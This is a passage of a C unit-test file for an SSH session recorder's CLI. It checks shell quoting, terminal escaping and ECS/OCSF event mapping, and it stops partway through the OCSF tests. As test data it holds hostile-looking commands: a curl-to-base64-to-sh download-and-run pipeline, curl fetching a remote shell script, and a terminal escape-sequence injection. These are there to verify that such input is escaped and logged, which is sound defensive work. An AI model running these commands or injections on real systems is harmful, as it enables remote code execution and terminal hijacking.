/* SPDX-License-Identifier: BSD-2-Clause */
/* Unit tests of the CLI's formatting and of the ECS / OCSF mappings. */
#include <errno.h>
#include <inttypes.h>
#include <limits.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>
#include <json-c/json.h>

#include "export.h"
#include "cli/cli.h"
#include "cli/report.h"
#include "cli/output.h"
#include "strsafe.h"

static void test_shell_quote(void **state)
{
	static const char *const cases[][2] = {
	    {"ls", "ls"},         {"-la", "-la"},   {"/usr/bin/x", "/usr/bin/x"},
	    {"", "''"},           {"a b", "'a b'"}, {"it's", "'it'\\''s'"},
	    {"$HOME", "'$HOME'"}, {"a|b", "'a|b'"}, {"x=1,y:2", "x=1,y:2"},
	};
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		char *q = sr_shell_quote(cases[i][0]);

		assert_non_null(q);
		assert_string_equal(q, cases[i][1]);
		free(q);
	}
}

static void test_argv_join(void **state)
{
	char *s;

	(void)state;
	s = sr_argv_join("[\"curl\",\"-s\",\"http://x/y.sh\"]", false);
	assert_string_equal(s, "curl -s http://x/y.sh");
	free(s);
	s = sr_argv_join("[\"sh\",\"-c\",\"curl x | base64 -d | sh\"]", false);
	assert_string_equal(s, "sh -c 'curl x | base64 -d | sh'");
	free(s);
	s = sr_argv_join("[\"echo\",\"\"]", true);
	assert_string_equal(s, "echo '' \xe2\x80\xa6");
	free(s);
	s = sr_argv_join("[]", false);
	assert_string_equal(s, "");
	free(s);
	s = sr_argv_join("not json", false);
	assert_string_equal(s, "'not json'");
	free(s);
}

/* What sr_argv_join() gave before its json-c-free path for plain arrays. */
static char *argv_join_jsonc(const char *argv_json, bool truncated)
{
	json_object *arr = json_tokener_parse(argv_json);
	char *out;

	if (!arr || !json_object_is_type(arr, json_type_array)) {
		json_object_put(arr);
		return sr_shell_quote(argv_json);
	}
	out = sr_argv_join_obj(arr, NULL, truncated);
	json_object_put(arr);
	return out;
}

/* A random JSON-ish argv: mostly what sshrecd writes (any byte but '"', '\\'
 * and controls), sometimes escapes, spaces, other values or a broken end. */
static void random_argv(unsigned *seed, char *buf, size_t cap)
{
	static const char *const odd[] = {
	    "\\n", "\\u001b", "\\\"", "\\\\", "\\u00e9", " ", "\t", "\x01", "\x7f",
	};
	static const char *const tails[] = {"]", "] ", "]x", "", ",]", "\"]", ",1]", "]]"};
	size_t o = 0, nw = (size_t)(rand_r(seed) % 5), i, k;
	bool broken = rand_r(seed) % 8 == 0;

	buf[o++] = '[';
	for (i = 0; i < nw && o + 64 < cap; i++) {
		size_t wl = (size_t)(rand_r(seed) % 12);

		if (i)
			buf[o++] = ',';
		if (rand_r(seed) % 16 == 0) {
			o += (size_t)snprintf(buf + o, cap - o, "%s",
			                      rand_r(seed) % 2 ? "42" : "{\"a\":[1,null]}");
			continue;
		}
		buf[o++] = '"';
		for (k = 0; k < wl; k++) {
			unsigned r = (unsigned)rand_r(seed);

			if (r % 40 == 0) {
				const char *e = odd[(r / 40) % (sizeof(odd) / sizeof(odd[0]))];

				memcpy(buf + o, e, strlen(e));
				o += strlen(e);
			} else {
				static const char plain[] = "aZ09_@%+=:,./-' $|;*~";
				unsigned char c =
				    r % 3 ? (unsigned char)plain[(r / 3) % (sizeof(plain) - 1)]
				          : (unsigned char)(0x20 + (r / 3) % 0xE0);

				buf[o++] = c == '"' || c == '\\' ? 'q' : (char)c;
			}
		}
		buf[o++] = '"';
	}
	o += (size_t)snprintf(
	    buf + o, cap - o, "%s",
	    broken ? tails[(unsigned)rand_r(seed) % (sizeof(tails) / sizeof(tails[0]))] : "]");
}

/* The plain-array path gives json-c's join byte for byte, and anything else
 * still goes through json-c. */
static void test_argv_join_parity(void **state)
{
	static const char *const fixed[] = {
	    "[]",
	    "[\"\"]",
	    "[\"a\",\"\"]",
	    "[\"it's\"]",
	    "[\"\xc3\xa9\xff\"]",
	    "[ \"a\"]",
	    "[\"a\" ,\"b\"]",
	    "[\"a\"]\n",
	    "[\"a\\/b\"]",
	    "[\"a\",]",
	    "[\"a\"",
	    "[",
	    "]",
	    "",
	    "[1,\"a\"]",
	    "{\"a\":1}",
	    "[\"a\"][\"b\"]",
	    "[\"\x7f\"]",
	    "[\"x\x1f\"]",
	    "[\"a\",\"b\"c]",
	    "[\"~\",\"$\"]",
	};
	unsigned seed = 16;
	char buf[1024];
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(fixed) / sizeof(fixed[0]) * 2 + 20000; i++) {
		const char *j = buf;
		bool trunc = i % 2;
		char *a, *b;

		if (i / 2 < sizeof(fixed) / sizeof(fixed[0]))
			j = fixed[i / 2];
		else
			random_argv(&seed, buf, sizeof(buf));
		a = sr_argv_join(j, trunc);
		b = argv_join_jsonc(j, trunc);
		assert_non_null(a);
		assert_non_null(b);
		if (strcmp(a, b))
			fail_msg("argv %s: \"%s\" against json-c's \"%s\"", j, a, b);
		free(a);
		free(b);
	}
}

/* sr_put_term() prints what sr_term_escape() makes, with or without its copy. */
static void test_put_term(void **state)
{
	static const char *const cases[] = {
	    "",
	    "ls -la /tmp",
	    "a\tb",
	    "\x1b[31m",
	    "caf\xc3\xa9",
	    "\xc2\x9b",
	    "x\x7f",
	    "~}| !",
	    "\xff",
	    ("\xe2\x80\xae" /* U+202E, right-to-left override */ "sl"),
	};
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		char *mem = NULL, *e = sr_term_escape(cases[i]);
		size_t len = 0;
		FILE *f = open_memstream(&mem, &len);

		assert_non_null(f);
		assert_non_null(e);
		assert_int_equal(sr_put_term(f, cases[i]), 0);
		assert_int_equal(fclose(f), 0);
		assert_string_equal(mem, e);
		free(mem);
		free(e);
	}
}

/* A hostile argv must be inert once joined and escaped for the terminal. */
static void test_argv_escape(void **state)
{
	char *j, *e;

	(void)state;
	j = sr_argv_join("[\"printf\",\"\\u001b]0;pwned\\u0007\"]", false);
	assert_non_null(j);
	e = sr_term_escape(j);
	assert_non_null(e);
	assert_null(strchr(e, 0x1b));
	assert_null(strchr(e, 0x07));
	assert_string_equal(e, "printf '\\e]0;pwned\\x07'");
	free(j);
	free(e);
	j = sr_argv_join("[\"a\\nb\",\"\\u00c2\\u009b31m\"]", false);
	e = sr_term_escape(j);
	assert_null(strchr(e, '\n'));
	assert_null(strstr(e, "\xc2\x9b"));
	free(j);
	free(e);
}

static void test_duration(void **state)
{
	char b[32];

	(void)state;
	assert_string_equal(sr_fmt_duration(-1, b, sizeof(b)), "-");
	assert_string_equal(sr_fmt_duration(0, b, sizeof(b)), "0 ms");
	assert_string_equal(sr_fmt_duration(850, b, sizeof(b)), "850 ms");
	assert_string_equal(sr_fmt_duration(3250, b, sizeof(b)), "3.2 s");
	assert_string_equal(sr_fmt_duration(245000, b, sizeof(b)), "4m05s");
	assert_string_equal(sr_fmt_duration(7380000, b, sizeof(b)), "2h03m");
	assert_string_equal(sr_fmt_duration(273600000, b, sizeof(b)), "3d04h");
	assert_string_equal(sr_fmt_duration(999, b, sizeof(b)), "999 ms");
	assert_string_equal(sr_fmt_duration(1000, b, sizeof(b)), "1.0 s");
	assert_string_equal(sr_fmt_duration(850, b, 4), "850"); /* snprintf's cut */
}

/* sr_fmt_int() is printf's %" PRId64 ", extremes included. */
static void test_fmt_int(void **state)
{
	static const int64_t cases[] = {0,         1,         -1,           9,    10,
	                                -10,       999,       1000,         4096, -2147483648LL,
	                                INT64_MAX, INT64_MIN, INT64_MIN + 1};
	char a[SR_FMT_INT_MAX], b[32];
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		snprintf(b, sizeof(b), "%" PRId64, cases[i]);
		assert_int_equal(sr_fmt_int(cases[i], a), strlen(b));
		assert_string_equal(a, b);
	}
}

static void test_names(void **state)
{
	char b[32];

	(void)state;
	assert_string_equal(sr_signal_name(9, b, sizeof(b)), "SIGKILL");
	assert_string_equal(sr_signal_name(15, b, sizeof(b)), "SIGTERM");
	assert_string_equal(sr_signal_name(11, b, sizeof(b)), "SIGSEGV");
	assert_string_equal(sr_signal_name(35, b, sizeof(b)), "SIGRTMIN+1");
	assert_string_equal(sr_signal_name(99, b, sizeof(b)), "SIG99");
	assert_string_equal(sr_errno_name(2, b, sizeof(b)), "ENOENT");
	assert_string_equal(sr_errno_name(13, b, sizeof(b)), "EACCES");
	assert_string_equal(sr_errno_name(100000, b, sizeof(b)), "E100000");
	/* a record's return code, any 64-bit value (fuzz_export found -INT64_MIN) */
	assert_string_equal(sr_rc_errno_name(-2, b, sizeof(b)), "ENOENT");
	assert_string_equal(sr_rc_errno_name(-100000, b, sizeof(b)), "E100000");
	assert_string_equal(sr_rc_errno_name(INT64_MIN, b, sizeof(b)), "E9223372036854775808");
	assert_string_equal(sr_rc_errno_name(INT_MIN, b, sizeof(b)), "E2147483648");
	assert_string_equal(sr_rc_errno_name(-(int64_t)INT_MAX, b, sizeof(b)), "E2147483647");
	assert_string_equal(sr_rc_errno_name(5, b, sizeof(b)), "E-5");
}

static void test_table(void **state)
{
	static const char *head[] = {"A", "LONGER"};
	const char *r1[] = {"x\033[31m", "1"}, *r2[] = {"\xc3\xa9t\xc3\xa9", NULL};
	struct sr_table t;
	char *buf = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&buf, &len);

	(void)state;
	assert_int_equal(sr_table_init(&t, 2, head), 0);
	assert_int_equal(sr_table_add(&t, r1), 0);
	assert_int_equal(sr_table_add(&t, r2), 0);
	sr_table_print(&t, f, false);
	sr_table_free(&t);
	fclose(f);
	/* escaped cell is 7 columns wide ("x\e[31m"); é counts one column */
	assert_string_equal(buf, "A        LONGER\n"
	                         "x\\e[31m  1\n"
	                         "\xc3\xa9t\xc3\xa9      -\n");
	free(buf);
}

/* A streaming table: widths from the first window, later rows printed as
 * they come (a wider cell shifts its row, two spaces still between). */
static void test_table_stream(void **state)
{
	static const char *head[] = {"A", "B"};
	const char *r1[] = {"xx", "1"}, *r2[] = {"y", "2"}, *r3[] = {"zzzzz", "3"},
	           *r4[] = {"w", "4"};
	struct sr_table t;
	char *buf = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&buf, &len);

	(void)state;
	assert_int_equal(sr_table_init(&t, 2, head), 0);
	sr_table_stream(&t, f, false, 2);
	assert_int_equal(sr_table_add(&t, r1), 0);
	assert_int_equal(sr_table_add(&t, r2), 0);
	fflush(f);
	assert_int_equal(len, 0); /* the window is not known to be full yet */
	assert_int_equal(sr_table_add(&t, r3), 0);
	fflush(f);
	assert_string_equal(buf, "A   B\nxx  1\ny   2\n");
	assert_int_equal(sr_table_add(&t, r4), 0);
	assert_int_equal(t.nrows, 1); /* bounded: only the row being built is held */
	sr_table_print(&t, f, false);
	sr_table_free(&t);
	fclose(f);
	assert_string_equal(buf, "A   B\nxx  1\ny   2\nzzzzz  3\nw   4\n");
	free(buf);
}

/* ---- ECS / OCSF ---- */

static const char rec_command[] =
    "{\"event\":\"session.command\",\"code\":\"T4000I\",\"time\":\"2026-01-05T08:00:01.500000Z\","
    "\"ei\":3,\"uid\":\"0b6f1d1e-8a43-4c5e-9d57-2b5f4c1a0e11\",\"sid\":"
    "\"019b8d3a-1f00-7000-8000-000000000001\",\"server_id\":\"srv-1\",\"server_hostname\":"
    "\"bastion-1\",\"login\":\"alice\",\"user\":\"SHA256:abc\",\"cgroup_id\":7,"
    "\"audit_session_id\":4,\"pid\":2001,\"ppid\":2000,\"program\":\"curl\",\"path\":"
    "\"/usr/bin/curl\",\"argv\":[\"-s\",\"http://203.0.113.10/x.sh\"],\"argv0\":\"curl\","
    "\"argv_truncated\":false,\"return_code\":0,\"cwd\":\"/home/alice\",\"proc_uid\":1000,"
    "\"proc_gid\":1000,\"proc_euid\":1000,\"proc_egid\":1000,\"process_id\":12,"
    "\"parent_process_id\":11}";
static const char rec_exit[] =
    "{\"event\":\"session.process_exit\",\"code\":\"SR4010I\",\"time\":"
    "\"2026-01-05T08:00:02Z\",\"ei\":5,\"uid\":\"u5\",\"sid\":\"s1\",\"server_id\":\"srv-1\","
    "\"server_hostname\":\"bastion-1\",\"login\":\"alice\",\"user\":\"alice\",\"cgroup_id\":7,"
    "\"audit_session_id\":4,\"pid\":2001,\"ppid\":2000,\"program\":\"sleep\","
    "\"exit_code\":null,\"signal\":9,\"duration_ms\":500,\"process_id\":12}";
static const char rec_disk[] =
    "{\"event\":\"session.disk\",\"code\":\"T4001I\",\"time\":\"2026-01-05T08:00:01.6Z\","
    "\"ei\":4,\"uid\":\"u4\",\"sid\":\"s1\",\"server_id\":\"srv-1\",\"server_hostname\":"
    "\"bastion-1\",\"login\":\"alice\",\"user\":\"alice\",\"cgroup_id\":7,"
    "\"audit_session_id\":4,\"pid\":2001,\"ppid\":2000,\"program\":\"curl\",\"path\":"
    "\"/etc/ssl/certs/ca.crt\",\"flags\":524288,\"flags_text\":\"O_RDONLY|O_CLOEXEC\","
    "\"mode\":0,\"return_code\":-13,\"path_resolved\":false,\"process_id\":12}";
static const char rec_net[] =
    "{\"event\":\"session.network\",\"code\":\"T4002I\",\"time\":\"2026-01-05T08:00:01.7Z\","
    "\"ei\":6,\"uid\":\"u6\",\"sid\":\"s1\",\"server_id\":\"srv-1\",\"server_hostname\":"
    "\"bastion-1\",\"login\":\"alice\",\"user\":\"alice\",\"cgroup_id\":7,"
    "\"audit_session_id\":4,\"pid\":2001,\"ppid\":2000,\"program\":\"curl\",\"src_addr\":"
    "\"10.0.0.4\",\"src_port\":41000,\"dst_addr\":\"203.0.113.10\",\"dst_port\":80,"
    "\"version\":4,\"operation\":0,\"action\":0,\"result\":\"established\",\"process_id\":12}";
/* a connect a BPF LSM hook refused (action 1, Teleport's DENIED) */
static const char rec_net_denied[] =
    "{\"event\":\"session.network\",\"code\":\"T4002I\",\"time\":\"2026-01-05T08:00:01.8Z\","
    "\"ei\":7,\"uid\":\"u7\",\"sid\":\"s1\",\"server_id\":\"srv-1\",\"server_hostname\":"
    "\"bastion-1\",\"login\":\"alice\",\"user\":\"alice\",\"cgroup_id\":7,"
    "\"audit_session_id\":4,\"pid\":2001,\"ppid\":2000,\"program\":\"curl\",\"src_addr\":"
    "\"0.0.0.0\",\"src_port\":0,\"dst_addr\":\"203.0.113.10\",\"dst_port\":443,"
    "\"version\":4,\"operation\":0,\"action\":1,\"result\":\"failed\",\"process_id\":12}";
/* format 5: an inbound connection to a session's listener (src the peer) and a UDP send */
static const char rec_net_accept[] =
    "{\"event\":\"session.network\",\"code\":\"T4002I\",\"time\":\"2026-01-05T08:00:01.9Z\","
    "\"ei\":8,\"uid\":\"u8\",\"sid\":\"s1\",\"server_id\":\"srv-1\",\"server_hostname\":"
    "\"bastion-1\",\"login\":\"alice\",\"user\":\"alice\",\"cgroup_id\":7,"
    "\"audit_session_id\":4,\"pid\":2001,\"ppid\":2000,\"program\":\"nc\",\"src_addr\":"
    "\"2001:db8::9\",\"src_port\":51000,\"dst_addr\":\"2001:db8::1\",\"dst_port\":8080,"
    "\"version\":6,\"operation\":2,\"action\":0,\"result\":\"established\",\"process_id\":12}";
static const char rec_net_udp[] =
    "{\"event\":\"session.network\",\"code\":\"T4002I\",\"time\":\"2026-01-05T08:00:02Z\","
    "\"ei\":9,\"uid\":\"u9\",\"sid\":\"s1\",\"server_id\":\"srv-1\",\"server_hostname\":"
    "\"bastion-1\",\"login\":\"alice\",\"user\":\"alice\",\"cgroup_id\":7,"
    "\"audit_session_id\":4,\"pid\":2001,\"ppid\":2000,\"program\":\"dig\",\"src_addr\":"
    "\"10.0.0.4\",\"src_port\":53001,\"dst_addr\":\"192.0.2.53\",\"dst_port\":53,"
    "\"version\":4,\"operation\":1,\"action\":0,\"result\":\"sent\",\"process_id\":12}";
static const char rec_start[] =
    "{\"event\":\"session.start\",\"code\":\"T2000I\",\"time\":\"2026-01-05T08:00:00Z\","
    "\"ei\":0,\"uid\":\"u0\",\"sid\":\"s1\",\"server_id\":\"srv-1\",\"server_hostname\":"
    "\"bastion-1\",\"login\":\"alice\",\"user\":\"alice\",\"cgroup_id\":7,"
    "\"audit_session_id\":4,\"pid\":1990,\"ppid\":1,\"program\":\"sshd\",\"tty\":\"ssh\"}";

static const char rec_end[] =
    "{\"event\":\"session.end\",\"code\":\"T2004I\",\"time\":\"2026-01-05T08:00:43.25Z\","
    "\"ei\":9,\"uid\":\"u9\",\"sid\":\"s1\",\"server_id\":\"srv-1\",\"server_hostname\":"
    "\"bastion-1\",\"login\":\"alice\",\"user\":\"alice\",\"cgroup_id\":7,"
    "\"audit_session_id\":4,\"pid\":1990,\"ppid\":1,\"program\":\"sshd\",\"session_start\":"
    "\"2026-01-05T08:00:00.000000Z\",\"session_stop\":\"2026-01-05T08:00:43.250000Z\","
    "\"counts\":{\"command\":1,\"disk\":1,\"network\":1,\"process_exit\":1,\"escape\":0},"
    "\"lost\":0}";
static const char rec_loss[] =
    "{\"event\":\"session.data_loss\",\"code\":\"SR4090W\",\"time\":\"2026-01-05T08:00:03Z\","
    "\"ei\":7,\"uid\":\"u7\",\"sid\":\"s1\",\"server_id\":\"srv-1\",\"server_hostname\":"
    "\"bastion-1\",\"login\":\"alice\",\"user\":\"alice\",\"cgroup_id\":7,"
    "\"audit_session_id\":4,\"pid\":0,\"ppid\":0,\"program\":\"\",\"lost\":3,"
    "\"lost_by_type\":{\"command\":1,\"disk\":2,\"network\":0}}";

static struct sr_exp_sess test_sess = {
    .sid = "019b8d3a-1f00-7000-8000-000000000001",
    .login = "alice",
    .remote_addr = "192.0.2.7",
    .remote_port = 50022,
    .local_addr = "10.0.0.4",
    .local_port = 22,
    .tty = "/dev/pts/1",
    .leader_pid = 1990,
    .start_us = 1767600000000000LL,
    .key_fingerprint = "SHA256:abc",
};
static struct sr_exp_proc test_proc = {
    .id = 12,
    .path = "/usr/bin/curl",
    .argv_json = "[\"curl\",\"-s\",\"http://203.0.113.10/x.sh\"]",
    .cwd = "/home/alice",
    .pid = 2001,
    .ppid = 2000,
    .start_us = 1767600001500000LL,
};

/* Look up a dotted path ("process.entry_leader.entity_id") in @p o. */
static json_object *path_get(json_object *o, const char *path)
{
	char buf[256], *tok, *save = NULL;

	snprintf(buf, sizeof(buf), "%s", path);
	for (tok = strtok_r(buf, ".", &save); tok && o; tok = strtok_r(NULL, ".", &save)) {
		json_object *v = NULL;

		/* "@timestamp" and keys with dots are looked up whole first */
		if (!json_object_object_get_ex(o, tok, &v))
			return NULL;
		o = v;
	}
	return o;
}

static void require_fields(json_object *doc, const char *const *fields, const char *what)
{
	size_t i;

	for (i = 0; fields[i]; i++) {
		if (!path_get(doc, fields[i]))
			fail_msg("%s: required field %s missing in %s", what, fields[i],
			         json_object_to_json_string(doc));
	}
}

/* Map @p rec with the text writers, then parse the output back with json-c
 * (so it is checked to be one valid JSON document). */
static json_object *map(const char *rec, int fmt, bool *unmapped)
{
	static struct sr_jrec scratch;
	struct sr_exp_ctx ctx = {.sess = &test_sess, .proc = &test_proc};
	struct sr_jrec r = {0};
	struct sr_jw w = {0};
	json_object *d = NULL;
	int rc;

	if (!test_proc.have_args) {
		assert_int_equal(sr_exp_proc_prepare(&test_proc, &scratch), 0);
		assert_true(test_proc.have_args);
		sr_jrec_free(&scratch);
	}
	assert_int_equal(sr_jrec_parse(&r, rec, strlen(rec)), 0);
	sr_jw_reset(&w);
	rc = fmt == 0 ? sr_ecs_write(&r, &ctx, &w) : sr_ocsf_write(&r, &ctx, &w);
	*unmapped = rc == -ENOENT;
	if (rc != -ENOENT) {
		json_tokener *tok = json_tokener_new();

		assert_int_equal(rc, 0);
		d = json_tokener_parse_ex(tok, w.b, (int)w.len);
		assert_int_equal(json_tokener_get_error(tok), json_tokener_success);
		assert_non_null(d);
		json_tokener_free(tok);
	}
	sr_jw_free(&w);
	sr_jrec_free(&r);
	return d;
}

/* ECS fields every document carries, and per category. */
static const char *const ecs_base[] = {"@timestamp",
                                       "ecs.version",
                                       "event.kind",
                                       "event.category",
                                       "event.type",
                                       "event.action",
                                       "event.code",
                                       "event.id",
                                       "host.hostname",
                                       "host.id",
                                       "user.name",
                                       "related.user",
                                       "process.entry_leader.entity_id",
                                       "process.entry_leader.user.name",
                                       "process.entry_leader.entry_meta.type",
                                       "process.entry_leader.entry_meta.source.ip",
                                       NULL};
static const char *const ecs_process[] = {"process.pid",          "process.parent.pid",
                                          "process.name",         "process.executable",
                                          "process.args",         "process.args_count",
                                          "process.command_line", "process.working_directory",
                                          "process.entity_id",    NULL};
static const char *const ecs_file[] = {"file.path", "file.name", "file.directory", "process.pid",
                                       NULL};
static const char *const ecs_network[] = {
    "source.ip",  "source.port", "destination.ip", "destination.port", "network.transport",
    "related.ip", NULL};

static void test_ecs(void **state)
{
	bool un;
	json_object *d, *v;

	(void)state;
	d = map(rec_command, 0, &un);
	require_fields(d, ecs_base, "ecs command");
	require_fields(d, ecs_process, "ecs command");
	assert_string_equal(json_object_get_string(path_get(d, "event.category")),
	                    "[ \"process\" ]");
	assert_string_equal(json_object_get_string(path_get(d, "process.entry_leader.entity_id")),
	                    test_sess.sid);
	assert_string_equal(
	    json_object_get_string(path_get(d, "process.entry_leader.entry_meta.type")), "sshd");
	assert_int_equal(json_object_get_int(path_get(d, "process.args_count")), 3);
	assert_string_equal(json_object_get_string(path_get(d, "process.args")),
	                    "[ \"curl\", \"-s\", \"http:\\/\\/203.0.113.10\\/x.sh\" ]");
	assert_null(path_get(d, "process.ppid")); /* not an ECS field since 1.12 */
	assert_string_equal(json_object_get_string(path_get(d, "ecs.version")), "9.4.0");
	assert_string_equal(json_object_get_string(path_get(d, "@timestamp")),
	                    "2026-01-05T08:00:01.500000Z");
	json_object_put(d);
	/* a record of format 1 (argv[0] first, no argv0) gives the same vector */
	{
		char old[sizeof(rec_command)];
		const char *a = strstr(rec_command, "\"argv\":"),
		           *b = strstr(rec_command, ",\"argv0");

		snprintf(old, sizeof(old), "%.*s\"argv\":[\"curl\",%.*s%s", (int)(a - rec_command),
		         rec_command, (int)(b - a - 8), a + 8, strstr(b, ",\"argv_truncated"));
		d = map(old, 0, &un);
		assert_int_equal(json_object_get_int(path_get(d, "process.args_count")), 3);
		assert_string_equal(json_object_get_string(path_get(d, "process.command_line")),
		                    "curl -s http://203.0.113.10/x.sh");
		json_object_put(d);
	}

	d = map(rec_exit, 0, &un);
	require_fields(d, ecs_base, "ecs exit");
	require_fields(d, ecs_process, "ecs exit");
	v = path_get(d, "process.exit_code");
	assert_non_null(v);
	assert_int_equal(json_object_get_int(v), 137);
	assert_string_equal(json_object_get_string(path_get(d, "event.outcome")), "failure");
	json_object_put(d);

	d = map(rec_disk, 0, &un);
	require_fields(d, ecs_base, "ecs disk");
	require_fields(d, ecs_file, "ecs disk");
	assert_string_equal(json_object_get_string(path_get(d, "file.directory")),
	                    "/etc/ssl/certs");
	assert_string_equal(json_object_get_string(path_get(d, "event.outcome")), "failure");
	json_object_put(d);
	/* directories are named by their own name */
	{
		static const char *const dirs[][4] = {{"/etc/", "etc", "/", "dir"},
		                                      {"/", "/", NULL, "dir"},
		                                      {"/var/log//", "log", "/var", "dir"},
		                                      {"/x", "x", "/", NULL},
		                                      {"rel/a", "a", "rel", NULL}};
		char r[sizeof(rec_disk) + 32];
		size_t i;

		for (i = 0; i < sizeof(dirs) / sizeof(dirs[0]); i++) {
			const char *p = strstr(rec_disk, "/etc/ssl/certs/ca.crt");

			snprintf(r, sizeof(r), "%.*s%s%s", (int)(p - rec_disk), rec_disk,
			         dirs[i][0], p + strlen("/etc/ssl/certs/ca.crt"));
			d = map(r, 0, &un);
			assert_string_equal(json_object_get_string(path_get(d, "file.name")),
			                    dirs[i][1]);
			if (dirs[i][2])
				assert_string_equal(
				    json_object_get_string(path_get(d, "file.directory")),
				    dirs[i][2]);
			else
				assert_null(path_get(d, "file.directory"));
			if (dirs[i][3])
				assert_string_equal(
				    json_object_get_string(path_get(d, "file.type")), dirs[i][3]);
			else
				assert_null(path_get(d, "file.type"));
			json_object_put(d);
			d = map(r, 1, &un);
			assert_string_equal(json_object_get_string(path_get(d, "file.name")),
			                    dirs[i][1]);
			assert_int_equal(json_object_get_int(path_get(d, "file.type_id")),
			                 dirs[i][3] ? 2 : 0);
			json_object_put(d);
		}
	}

	d = map(rec_net, 0, &un);
	require_fields(d, ecs_base, "ecs network");
	require_fields(d, ecs_network, "ecs network");
	assert_int_equal(json_object_get_int(path_get(d, "destination.port")), 80);
	json_object_put(d);

	/* an accept: inbound (ECS's host view: ingress), source the peer that connected */
	d = map(rec_net_accept, 0, &un);
	require_fields(d, ecs_network, "ecs accept");
	assert_string_equal(json_object_get_string(path_get(d, "network.direction")), "ingress");
	assert_string_equal(json_object_get_string(path_get(d, "network.transport")), "tcp");
	assert_string_equal(json_object_get_string(path_get(d, "source.ip")), "2001:db8::9");
	assert_int_equal(json_object_get_int(path_get(d, "destination.port")), 8080);
	assert_string_equal(json_object_get_string(path_get(d, "event.outcome")), "success");
	json_object_put(d);
	/* a UDP send: egress, udp, recorded before its result */
	d = map(rec_net_udp, 0, &un);
	require_fields(d, ecs_network, "ecs udp");
	assert_string_equal(json_object_get_string(path_get(d, "network.direction")), "egress");
	assert_string_equal(json_object_get_string(path_get(d, "network.transport")), "udp");
	assert_string_equal(json_object_get_string(path_get(d, "event.type")),
	                    "[ \"connection\", \"info\" ]");
	assert_string_equal(json_object_get_string(path_get(d, "event.outcome")), "unknown");
	json_object_put(d);
	/* a connect stays egress over tcp */
	d = map(rec_net, 0, &un);
	assert_string_equal(json_object_get_string(path_get(d, "network.direction")), "egress");
	assert_string_equal(json_object_get_string(path_get(d, "event.type")),
	                    "[ \"connection\", \"start\" ]");
	json_object_put(d);

	d = map(rec_start, 0, &un);
	require_fields(d, ecs_base, "ecs start");
	assert_string_equal(json_object_get_string(path_get(d, "source.ip")), "192.0.2.7");
	json_object_put(d);
}

/* OCSF 1.1 required attributes per class (and of the objects they hold). */
static const char *const ocsf_1007[] = {"activity_id",
                                        "actor",
                                        "category_uid",
                                        "class_uid",
                                        "metadata",
                                        "process",
                                        "severity_id",
                                        "time",
                                        "type_uid",
                                        "metadata.version",
                                        "metadata.product.vendor_name",
                                        "metadata.product.name",
                                        NULL};
static const char *const ocsf_1001[] = {"activity_id",
                                        "actor",
                                        "category_uid",
                                        "class_uid",
                                        "file",
                                        "file.name",
                                        "file.type_id",
                                        "metadata",
                                        "severity_id",
                                        "time",
                                        "type_uid",
                                        "metadata.version",
                                        "metadata.product.vendor_name",
                                        NULL};
static const char *const ocsf_4001[] = {"activity_id",
                                        "category_uid",
                                        "class_uid",
                                        "dst_endpoint",
                                        "src_endpoint",
                                        "metadata",
                                        "severity_id",
                                        "time",
                                        "type_uid",
                                        "metadata.version",
                                        "metadata.product.vendor_name",
                                        NULL};

static const char *const ocsf_3002[] = {"activity_id",
                                        "category_uid",
                                        "class_uid",
                                        "metadata",
                                        "severity_id",
                                        "time",
                                        "type_uid",
                                        "user",
                                        "metadata.version",
                                        "metadata.product.vendor_name",
                                        "metadata.product.name",
                                        NULL};

static void check_ocsf(json_object *d, int cls, int cat, int act)
{
	assert_int_equal(json_object_get_int(path_get(d, "class_uid")), cls);
	assert_int_equal(json_object_get_int(path_get(d, "category_uid")), cat);
	assert_int_equal(json_object_get_int(path_get(d, "activity_id")), act);
	assert_int_equal(json_object_get_int64(path_get(d, "type_uid")), (int64_t)cls * 100 + act);
	assert_int_equal(json_object_get_int(path_get(d, "severity_id")), 1);
}

static void test_ocsf(void **state)
{
	bool un;
	json_object *d;

	(void)state;
	d = map(rec_command, 1, &un);
	assert_non_null(d);
	require_fields(d, ocsf_1007, "ocsf 1007 launch");
	check_ocsf(d, 1007, 1, 1);
	assert_int_equal(json_object_get_int64(path_get(d, "time")), 1767600001500LL);
	assert_string_equal(json_object_get_string(path_get(d, "process.cmd_line")),
	                    "curl -s http://203.0.113.10/x.sh");
	json_object_put(d);

	d = map(rec_exit, 1, &un);
	require_fields(d, ocsf_1007, "ocsf 1007 terminate");
	check_ocsf(d, 1007, 1, 2);
	assert_int_equal(json_object_get_int(path_get(d, "exit_code")), 137);
	json_object_put(d);

	d = map(rec_disk, 1, &un);
	require_fields(d, ocsf_1001, "ocsf 1001");
	check_ocsf(d, 1001, 1, 14);
	assert_int_equal(json_object_get_int(path_get(d, "status_id")), 2);
	json_object_put(d);

	d = map(rec_net, 1, &un);
	require_fields(d, ocsf_4001, "ocsf 4001");
	check_ocsf(d, 4001, 4, 1);
	assert_string_equal(json_object_get_string(path_get(d, "dst_endpoint.ip")), "203.0.113.10");
	json_object_put(d);

	d = map(rec_start, 1, &un);
	assert_non_null(d);
	require_fields(d, ocsf_3002, "ocsf 3002 logon");
	check_ocsf(d, 3002, 3, 1);
	assert_string_equal(json_object_get_string(path_get(d, "user.name")), "alice");
	assert_string_equal(json_object_get_string(path_get(d, "auth_protocol")), "SSH");
	assert_int_equal(json_object_get_int(path_get(d, "auth_protocol_id")), 99);
	/* the session's final terminal, not session.start's "ssh" */
	assert_int_equal(json_object_get_int(path_get(d, "logon_type_id")), 10);
	assert_string_equal(json_object_get_string(path_get(d, "metadata.profiles")),
	                    "[ \"host\" ]");
	assert_string_equal(json_object_get_string(path_get(d, "src_endpoint.ip")), "192.0.2.7");
	assert_int_equal(json_object_get_int(path_get(d, "dst_endpoint.port")), 22);
	assert_string_equal(json_object_get_string(path_get(d, "session.uid")), "s1");
	json_object_put(d);

	d = map(rec_end, 1, &un);
	assert_non_null(d);
	require_fields(d, ocsf_3002, "ocsf 3002 logoff");
	check_ocsf(d, 3002, 3, 2);
